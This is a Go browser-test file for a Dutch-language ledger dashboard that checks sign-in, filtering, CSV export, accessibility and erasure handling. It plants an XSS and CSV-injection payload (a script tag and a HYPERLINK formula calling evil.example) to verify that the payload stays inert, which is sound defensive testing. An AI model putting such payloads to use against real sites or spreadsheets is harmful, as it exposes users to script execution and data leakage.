package dashboard_test

import (
	"context"
	"encoding/csv"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/spoor-ledger/spoor/dashboard"
	"github.com/spoor-ledger/spoor/events"
	"github.com/spoor-ledger/spoor/events/demo"
	"github.com/spoor-ledger/spoor/internal/axecheck"
	"github.com/spoor-ledger/spoor/internal/browsertest"
	"github.com/spoor-ledger/spoor/internal/testledger"
)

// hostile is a justification a discloser could write: markup that would
// run as script and a formula a spreadsheet would evaluate.
const hostile = `=HYPERLINK("http://evil.example/?x","klik") <script>document.title='pwned'</script><img src=x>`

const password = "correct horse battery staple"

// fixture is a real ledger on Pebble behind the HTTP API, with synthetic
// disclosures and one hostile disclosure that breaks a rule, and the
// console in front of it, audited once.
type fixture struct {
	sl      *testledger.Served
	console *dashboard.Server
	srv     *httptest.Server
	hostile events.Disclosure
	silent  []string // parties without any disclosure
	dataDir string
}

// parseDisclosure returns the event id of an envelope.
func parseDisclosure(b []byte) (string, error) {
	env, err := events.ParseEnvelope(b)
	if err != nil {
		return "", err
	}
	d, err := events.DecodeDisclosure(env.Payload)
	if err != nil {
		return "", err
	}
	return d.ID, nil
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	return newFixtureOn(t, testledger.New(t))
}

// newFixtureOn is newFixture on env's covenant.
func newFixtureOn(t *testing.T, env *testledger.Env) *fixture {
	t.Helper()
	sl := env.Serve(t)
	sl.Grow(t, 40)
	f := &fixture{sl: sl}
	sc, _ := sl.L.Covenant()
	cov := sc.Covenant
	// The hostile one: a synthetic disclosure that breaks a rule, with the
	// discloser's words replaced.
	for i := 0; ; i++ {
		if i > 2000 {
			t.Fatal("the generator made no disclosure that breaks a rule")
		}
		_, d := env.Event(t)
		if len(cov.Check(d)) == 0 {
			continue
		}
		d.Justification = hostile
		if _, err := env.SubmitEnvelopes(t, sl.L, [][]byte{env.Sign(t, d)}); err != nil {
			t.Fatal(err)
		}
		f.hostile = *d
		break
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	f.dataDir = t.TempDir()
	pwFile := filepath.Join(t.TempDir(), "dashboard-password.json")
	if err := dashboard.SetPassword(pwFile, password); err != nil {
		t.Fatal(err)
	}
	if st, err := os.Stat(pwFile); err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("the password file: %v, mode %v, want 0600", err, st.Mode())
	}
	f.console, err = dashboard.New(dashboard.Config{LedgerURL: sl.Srv.URL, Token: testledger.FGToken, Keys: env.Keys,
		AdminVkey: env.Demo.AdminVkey, PasswordFile: pwFile, Hosts: []string{ln.Addr().String()},
		DataDir: f.dataDir, FollowInterval: 200 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	// The console follows the ledger as spoor dashboard does; the test
	// waits until its first audit covers the whole log.
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); _ = f.console.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done; f.console.Close() })
	f.waitAudited(t, sl.L.Head().Size)
	f.srv = httptest.NewUnstartedServer(f.console.Handler())
	f.srv.Listener.Close()
	f.srv.Listener = ln
	f.srv.Start()
	t.Cleanup(f.srv.Close)
	return f
}

// waitAudited waits until the console's last audit covers size entries.
func (f *fixture) waitAudited(t *testing.T, size uint64) {
	t.Helper()
	for f.console.AuditedSize() < size {
		select {
		case <-t.Context().Done():
			t.Fatal("the test ended before the console audited the log")
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// The browser and its bounded steps: internal/browsertest.
func browser(t *testing.T) context.Context { t.Helper(); return browsertest.Browser(t, 1200, 900) }

func run(t *testing.T, ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	browsertest.Run(t, ctx, what, steps...)
}

func value[T any](t *testing.T, ctx context.Context, what string, a chromedp.Action[T]) T {
	t.Helper()
	return browsertest.Value(t, ctx, what, a)
}

// TestConsoleInBrowser: the FG signs in, sees every organisation (those
// without disclosures too), filters the findings by the hostile
// disclosure's organisation, and exports them as CSV; the hostile
// justification is text in the page and a quoted cell in the CSV.
// SPOOR_DASHBOARD_SCREENSHOTS=DIR writes the pages' screenshots there.
func TestConsoleInBrowser(t *testing.T) {
	for _, name := range demo.Names() {
		t.Run(name, func(t *testing.T) {
			consoleInBrowser(t, newFixtureOn(t, testledger.NewDemo(t, name)), name == demo.Names()[0])
		})
	}
}

func consoleInBrowser(t *testing.T, f *fixture, screenshots bool) {
	ctx := browser(t)
	base := f.srv.URL
	shots := os.Getenv("SPOOR_DASHBOARD_SCREENSHOTS")
	shot := func(file string) {
		if shots == "" || !screenshots {
			return
		}
		png := value(t, ctx, "screenshot", chromedp.FullScreenshot(100))
		if err := os.WriteFile(filepath.Join(shots, file), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}

	axecheck.Script(t) // before anything runs: no axe-core, no test
	run(t, ctx, "the sign-in page", chromedp.Navigate(base+"/"), chromedp.WaitVisible(chromedp.ID("wachtwoord")))
	axecheck.Check(t, ctx, "sign-in")
	run(t, ctx, "a wrong password", chromedp.SendKeys(chromedp.ID("wachtwoord"), "not the password at all\r"), chromedp.WaitVisible(chromedp.CSS("p.fout")))
	run(t, ctx, "signing in", chromedp.SendKeys(chromedp.ID("wachtwoord"), password+"\r"), chromedp.WaitVisible(chromedp.ID("gezondheid")))
	if got := value(t, ctx, "the result", chromedp.Text(chromedp.ID("resultaat"))); !strings.Contains(got, "kloppen") {
		t.Errorf("the health says %q", got)
	}
	if got, want := value(t, ctx, "the size", chromedp.Text(chromedp.ID("omvang"))), f.sl.L.Head().Size; got != strconv.FormatUint(want, 10) {
		t.Errorf("the log size shown is %q, want %d", got, want)
	}
	orgs := value(t, ctx, "the organisations", chromedp.OuterHTML(chromedp.ID("organisaties")))
	sc, _ := f.sl.L.Covenant()
	silent := 0
	for _, p := range sc.Covenant.Parties {
		if !strings.Contains(orgs, "("+p.ID+")") {
			t.Errorf("organisation %s is not listed", p.ID)
		}
	}
	silent = strings.Count(orgs, "geen verstrekkingen")
	if silent == 0 {
		t.Errorf("no organisation is shown without disclosures; the table: %s", orgs)
	}
	shot("dashboard-overzicht.png")
	axecheck.Check(t, ctx, "overview")

	run(t, ctx, "filtering by organisation",
		chromedp.Navigate(base+"/bevindingen"), chromedp.WaitVisible(chromedp.ID("filter")),
		chromedp.SetValue(chromedp.ID("organisatie"), f.hostile.Discloser),
		chromedp.Click(chromedp.ID("filteren")))
	// The unfiltered page has the same table: wait for the filtered one to
	// be the page, not for a cell the old one also has.
	var loc string
	for !strings.Contains(loc, "organisatie=") {
		select {
		case <-t.Context().Done():
			t.Fatalf("the filter did not load; the browser is at %s", loc)
		case <-time.After(10 * time.Millisecond):
		}
		loc = value(t, ctx, "the location", chromedp.Location())
	}
	run(t, ctx, "the filtered page", chromedp.WaitReady("body"), chromedp.WaitVisible(chromedp.CSS("td.toelichting")))
	if !strings.Contains(loc, "organisatie="+url.QueryEscape(f.hostile.Discloser)) {
		t.Errorf("after filtering the browser is at %s", loc)
	}
	table := value(t, ctx, "the findings", chromedp.OuterHTML(chromedp.ID("bevindingen")))
	if n := strings.Count(table, `<td class="org">`); n == 0 || n != strings.Count(table, `<td class="org">`+f.hostile.Discloser+`</td>`) {
		t.Errorf("the filtered table has rows of other organisations: %s", table)
	}
	if !strings.Contains(table, "&lt;script&gt;") || strings.Contains(table, "<script") || strings.Contains(table, "<img") {
		t.Errorf("the hostile justification is not inert in the page: %s", table)
	}
	if title := value(t, ctx, "the title", chromedp.Title()); strings.Contains(title, "pwned") {
		t.Errorf("the hostile justification ran as script: title %q", title)
	}
	shot("dashboard-bevindingen.png")
	axecheck.Check(t, ctx, "findings, filtered")

	// The CSV export, through the link on the page, with the browser's
	// session cookie.
	href := value(t, ctx, "the CSV link", chromedp.AttributeValue(chromedp.ID("csv"), "href"))
	got, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{base}})
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("GET", base+href.Value, nil)
	for _, c := range got.Cookies {
		req.AddCookie(&http.Cookie{Name: c.Name, Value: c.Value})
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	rows, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil || resp.StatusCode != http.StatusOK || len(rows) < 2 {
		t.Fatalf("the CSV: %d, %d rows, %v", resp.StatusCode, len(rows), err)
	}
	found := false
	for _, row := range rows[1:] {
		if row[1] != f.hostile.Discloser {
			t.Errorf("a CSV row of organisation %s under the filter %s", row[1], f.hostile.Discloser)
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("CSV cell %q starts with a formula character", cell)
			}
		}
		if row[len(row)-1] == "'"+hostile {
			found = true
		}
	}
	if !found {
		t.Errorf("the hostile justification is not in the CSV as a quoted cell: %q", rows)
	}
	// The hostile finding opens to its entry with a verified proof.
	run(t, ctx, "opening the finding", chromedp.Navigate(base+"/bevindingen?organisatie="+url.QueryEscape(f.hostile.Discloser)),
		chromedp.WaitVisible(chromedp.ID("bevindingen")))
	leaf := strconv.FormatUint(f.hostileLeaf(t), 10)
	run(t, ctx, "the entry page", chromedp.Click(chromedp.CSS(`a[href="/vermelding/`+leaf+`"]`)), chromedp.WaitVisible(chromedp.ID("bewijs")))
	if got := value(t, ctx, "the proof", chromedp.Text(chromedp.ID("bewijs"))); !strings.HasPrefix(got, "Geverifieerd") {
		t.Errorf("the proof says %q", got)
	}
	if got := value(t, ctx, "the signature", chromedp.Text(chromedp.ID("handtekening"))); !strings.HasPrefix(got, "Klopt") {
		t.Errorf("the signature says %q", got)
	}
	if got := value(t, ctx, "the justification", chromedp.Text(chromedp.ID("toelichting"))); got != hostile {
		t.Errorf("the justification shows as %q, want the text %q", got, hostile)
	}
	shot("dashboard-vermelding.png")
	axecheck.Check(t, ctx, "one entry")
	run(t, ctx, "the tables", chromedp.Navigate(base+"/tabellen"), chromedp.WaitVisible(chromedp.ID("tabel-organisatie")))
	if tb := value(t, ctx, "the organisations' table", chromedp.OuterHTML(chromedp.ID("tabel-organisatie"))); !strings.Contains(tb, "geen verstrekkingen") {
		t.Errorf("no organisation without disclosures in the table: %s", tb)
	}
	shot("dashboard-tabellen.png")
	axecheck.Check(t, ctx, "tables")
	run(t, ctx, "the anomalies", chromedp.Navigate(base+"/afwijkingen"), chromedp.WaitVisible(chromedp.ID("volume-per-organisatie")))
	// An organisation without disclosures cannot be judged: it is not
	// told "none".
	verdicts := value(t, ctx, "the volume verdicts", chromedp.OuterHTML(chromedp.ID("volume-per-organisatie")))
	if !strings.Contains(verdicts, "niet te beoordelen") || strings.Count(verdicts, "<tr>") != len(f.sl.Env.Demo.Signed.Covenant.Parties)+1 {
		t.Errorf("the volume verdicts: %s", verdicts)
	}
	axecheck.Check(t, ctx, "anomalies")
	run(t, ctx, "the report", chromedp.Navigate(base+"/rapport"), chromedp.WaitVisible(chromedp.CSS("h1")))
	run(t, ctx, "the answers page", chromedp.Navigate(base+"/antwoorden"), chromedp.WaitVisible(chromedp.ID("antwoorden")))
	axecheck.Check(t, ctx, "answers and erasures")

	// An erasure in the ledger: the console follows it, and the entry
	// page the FG had open shows the disclosure as erased, its
	// justification gone (TestConsoleFollowsAndErases checks the copy's
	// files and the tables).
	if _, err := f.sl.L.Erase(context.Background(), f.hostileLeaf(t), "avg-17-1-d"); err != nil {
		t.Fatal(err)
	}
	erased := time.Now()
	for {
		run(t, ctx, "the erased entry's page", chromedp.Navigate(base+"/vermelding/"+leaf), chromedp.WaitVisible(chromedp.CSS("h1")))
		page := value(t, ctx, "the entry page", chromedp.OuterHTML(chromedp.CSS("main")))
		if strings.Contains(page, `id="gewist"`) {
			if strings.Contains(page, "pwned") || strings.Contains(page, "&lt;script&gt;") {
				t.Errorf("the erased disclosure's justification is still on its page: %s", page)
			}
			break
		}
		if time.Since(erased) > 5*time.Second {
			t.Fatalf("the erased disclosure is still on the console after 5 s: %s", page)
		}
		time.Sleep(200 * time.Millisecond)
	}
	axecheck.Check(t, ctx, "an erased entry")
	run(t, ctx, "signing out", chromedp.Click(chromedp.CSS("form.uit button")), chromedp.WaitVisible(chromedp.ID("wachtwoord")))
}
